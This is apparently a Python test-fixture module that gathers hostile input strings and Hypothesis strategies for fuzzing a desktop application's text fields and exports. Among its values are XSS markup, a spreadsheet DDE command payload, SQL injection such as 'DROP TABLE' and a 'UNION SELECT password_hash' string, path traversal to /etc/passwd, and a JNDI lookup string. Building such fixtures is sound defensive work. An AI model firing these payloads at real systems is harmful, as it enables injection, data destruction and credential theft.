"""Hostile input for any test that feeds what people type through the application: a fixed list
(markup, spreadsheet formulas, control and direction characters, emoji, huge values, SQL fragments,
odd dates, phone numbers and email addresses) and Hypothesis strategies for more of the same.

Reuse it for every new place text goes in or comes out (PDF, CSV export...)::

    from tests.desktop.security.hostile_values import HOSTILE_TEXT, hostile_text
"""

from __future__ import annotations

from datetime import date

from hypothesis import strategies as st

MARKUP = (
    "<script>alert(1)</script>",
    '<b>Zoé & "Léa"</b>',
    "<img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "<![CDATA[x]]>",
    "&amp;&lt;&#0;",
    "{{7*7}}",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n",
    "{0}{name}{!r}",
    "\\(x\\) $$x$$",
)

FORMULAS = (
    '=HYPERLINK("http://x","y")',
    "+1",
    "-1",
    "@SUM(A1)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
    "+Zoé",
    "=",
)

CONTROL = (
    "a\x00b",
    "\x00",
    "Zoé\x07",
    "ligne\nsuivante",
    "tab\there",
    "\r\n",
    "\x1b[31mrouge",
    "\x7f",
    "\u0085",
    "Zo\x0ce",
)

INVISIBLE_AND_DIRECTION = (
    "\u202eevil.exe",
    "abc\u200fdef",
    "\u200fمرحبا",
    "\u200b",
    "Zo\u200bé",
    "\ufeffBOM",
    "\u2066isolé\u2069",
    "soft\u00adhyphen",
    "joiner\u200dhere",
    "\u061c",
)

UNICODE = (
    "Zoé",
    "Zoe\u0301",  # decomposed: stored composed (NFC)
    "Côté-Nguyễn",
    "O'Brien",
    "👩\u200d⚕️ Zoé",
    "🏥",
    "😀" * 50,
    "Ǆ ǅ ǆ",
    "ﬁnance",
    "Ⅻ",
    "𝕏𝕐",
    "\ud800",  # a lone surrogate: cannot be stored as UTF-8
    "\uffff",
    "\U0010ffff",
    "Ｆｕｌｌ",
    "Straße",
    "İstanbul",
    "한국어",
    "عربي",
    "עברית",
    "\u0301",
    "ß" * 100,
)

LENGTHS = (
    "",
    " ",
    " \t ",
    "a" * 100,
    "a" * 101,
    "é" * 100,
    "e\u0301" * 100,  # 200 code points, 100 once composed
    "x" * 2000,
    "x" * 2001,
    "x" * 10_000,
)

SQL = (
    "'; DROP TABLE clients; --",
    "' OR '1'='1",
    '"; DELETE FROM audit_records; --',
    "Robert'); DROP TABLE students;--",
    "1; SELECT pg_sleep(10)",
    "%",
    "_",
    "\\",
    "--",
    "/* */",
    "' UNION SELECT password_hash FROM staff --",
)

PATHS_AND_URLS = (
    "../../etc/passwd",
    "C:\\Windows\\System32",
    "CON",
    "file:///etc/passwd",
    "javascript:alert(1)",
)

PHONES = (
    "418 555-0123",
    "+1 (418) 555-0123",
    "4185550123",
    "+14185550123",
    "418.555.0123",
    "418-555-0123 ext. 12",
    "1-800-FLOWERS",
    "0",
    "+",
    "+1",
    "555",
    "+999 123 456",
    "٤١٨٥٥٥٠١٢٣",
    "418\u00a0555\u00a00123",
    "4" * 40,
    "4" * 41,
    "+1 418 555 0123 <script>",
    "tel:+1-418-555-0123",
    "(((418)))",
    "+44 20 7946 0958",
    "=+14185550123",
)

EMAILS = (
    "zoe@example.com",
    "ZOE@EXAMPLE.COM",
    "zoé@exämple.com",
    "a@b",
    "a@b.c",
    "user+tag@example.com",
    '"quoted"@example.com',
    "a..b@example.com",
    ".a@example.com",
    "a@-example.com",
    "a@example..com",
    "@example.com",
    "zoe@",
    "zoe",
    "zoe@example.com\n",
    "zoe@ex ample.com",
    "x" * 64 + "@example.com",
    "x" * 65 + "@example.com",
    "a@" + "b" * 250 + ".com",
    "zoe@localhost",
    "zoe@[127.0.0.1]",
    "<zoe@example.com>",
    "zoe@example.com,bob@example.com",
    "=cmd@example.com",
    "zoe@xn--exmple-cua.com",
)

#: Dates typed as text; the GUI parses them before they reach a service.
DATE_TEXTS = (
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "31/12/1999",
    "1999-12-31T25:00",
    "9999-99-99",
    "demain",
    "",
    "-0001-01-01",
    "1980-04-12; DROP TABLE clients",
)

#: Dates that parse but make no sense for a birth or a receipt (the tests' today is 2026-11-24).
DATES = (
    date.min,
    date(1899, 12, 31),
    date(1999, 12, 31),
    date(2026, 11, 25),
    date(2030, 1, 1),
    date.max,
)

HOSTILE_TEXT: tuple[str, ...] = (
    MARKUP
    + FORMULAS
    + CONTROL
    + INVISIBLE_AND_DIRECTION
    + UNICODE
    + LENGTHS
    + SQL
    + PATHS_AND_URLS
    + PHONES
    + EMAILS
    + DATE_TEXTS
)


def hostile_text() -> st.SearchStrategy[str]:
    """Any text, with a bias towards the fixed list and its combinations."""
    fixed = st.sampled_from(HOSTILE_TEXT)
    anything = st.text(alphabet=st.characters(exclude_categories=()), max_size=40)
    return st.one_of(
        fixed,
        st.text(max_size=120),
        anything,
        st.tuples(fixed, anything, fixed).map("".join),
    )
